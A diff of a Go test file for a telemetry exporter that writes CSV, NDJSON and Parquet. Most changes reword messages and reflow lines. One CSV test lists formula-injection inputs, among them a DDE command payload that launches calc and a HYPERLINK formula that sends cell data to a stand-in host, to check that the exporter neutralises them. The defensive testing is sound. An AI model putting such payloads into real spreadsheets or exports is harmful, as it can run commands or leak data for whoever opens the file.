@@ -58,10 +58,12 @@ func TestCSV(t *testing.T) {
 	}
 }
 
-// TestCSVFormulas: no name opens a formula in a spreadsheet, and none ends its field.
+// TestCSVFormulas checks that no name is read as a formula by a spreadsheet, or as more
+// than one field.
 func TestCSVFormulas(t *testing.T) {
 	for _, name := range []string{
-		"=1+1", "+1", "-1", "@SUM(A1)", ` =cmd|' /C calc'!A0`, `"=1+1"`, `'=1`, "＝1", "\u00a0=1", `x","=1`, `=HYPERLINK("http://x?"&A1,"y")`, `"`, `""`, ",",
+		"=1+1", "+1", "-1", "@SUM(A1)", ` =cmd|' /C calc'!A0`, `"=1+1"`, `'=1`, "＝1", "\u00a0=1", `x","=1`,
+		`=HYPERLINK("http://x?"&A1,"y")`, `"`, `""`, ",",
 	} {
 		rows, err := csv.NewReader(bytes.NewReader(file(t, exportfile.CSV, block(name, name, name, 1)))).ReadAll()
 		if err != nil || len(rows) != 2 || len(rows[1]) != 6 {
@@ -69,10 +71,10 @@ func TestCSVFormulas(t *testing.T) {
 		}
 		for _, field := range rows[1][:3] {
 			if strings.TrimPrefix(field, "'") != name && field != name {
-				t.Errorf("%q came back as %q", name, field)
+				t.Errorf("name %q: got field %q", name, field)
 			}
 			if first := strings.TrimLeft(field, " \u00a0\""); first != "" && strings.ContainsRune("=+-@＝", []rune(first)[0]) {
-				t.Errorf("%q is a formula: %q", name, field)
+				t.Errorf("name %q: got the formula %q", name, field)
 			}
 		}
 	}
@@ -90,7 +92,10 @@ func TestNDJSON(t *testing.T) {
 	}
 	want := []map[string]any{
 		{"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00Z", "value": 1.5, "quality": "good"},
-		{"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00.250001Z", "value": math.MaxFloat64, "quality": "uncertain"},
+		{
+			"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00.250001Z", "value": math.MaxFloat64,
+			"quality": "uncertain",
+		},
 		{"device": "b", "metric": "m", "unit": "", "time": "2026-11-23T12:00:00Z", "value": 5e-324, "quality": "good"},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
@@ -126,11 +131,11 @@ func TestParquet(t *testing.T) {
 
 func TestUnknownFormat(t *testing.T) {
 	if _, err := exportfile.New(io.Discard, "xls"); !errors.Is(err, telemetry.ErrInvalid) {
-		t.Errorf("got %v", err)
+		t.Errorf("got %v, want telemetry.ErrInvalid", err)
 	}
 }
 
-// TestMemoryIsBounded writes a million rows of each format and watches the heap.
+// TestMemoryIsBounded checks the heap while it writes a million rows of each format.
 func TestMemoryIsBounded(t *testing.T) {
 	for _, format := range []exportfile.Format{exportfile.CSV, exportfile.NDJSON, exportfile.Parquet} {
 		t.Run(string(format), func(t *testing.T) {
@@ -165,7 +170,7 @@ func TestMemoryIsBounded(t *testing.T) {
 			}
 			t.Logf("%s: at most %.1f MiB in use at any time of 1,000,000 rows", format, float64(peak)/(1<<20))
 			if peak > 32<<20 {
-				t.Errorf("%d bytes in use", peak)
+				t.Errorf("got %d bytes of heap, want at most 32 MiB", peak)
 			}
 		})
 	}
